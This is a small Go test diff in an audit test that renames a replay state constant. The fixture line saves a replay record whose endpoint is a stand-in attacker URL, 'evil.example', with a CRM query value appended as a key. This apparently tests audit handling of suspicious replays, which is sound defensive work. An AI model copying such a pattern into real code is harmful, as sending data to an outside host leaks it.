@@ -237,7 +237,7 @@ func TestAudit(t *testing.T) {
 	}
 	boss.page("/events.ndjson?chosen=1" + chosen.String())
 	boss.page("/events.ndjson?chosen=1" + chosen.String() + "&id=" + uuid.NewString()) // another selection with the same beginning
-	sent := event.Replay{ID: uuid.New(), CreatedAt: time.Now(), UpdatedAt: time.Now(), State: event.ReplayDone, Endpoint: replay.TargetName("https://evil.example/?key=" + queryOfCRM)}
+	sent := event.Replay{ID: uuid.New(), CreatedAt: time.Now(), UpdatedAt: time.Now(), State: event.ReplayCompleted, Endpoint: replay.TargetName("https://evil.example/?key=" + queryOfCRM)}
 	if err := f.db.SaveReplay(background, sent); err != nil {
 		t.Fatal(err)
 	}
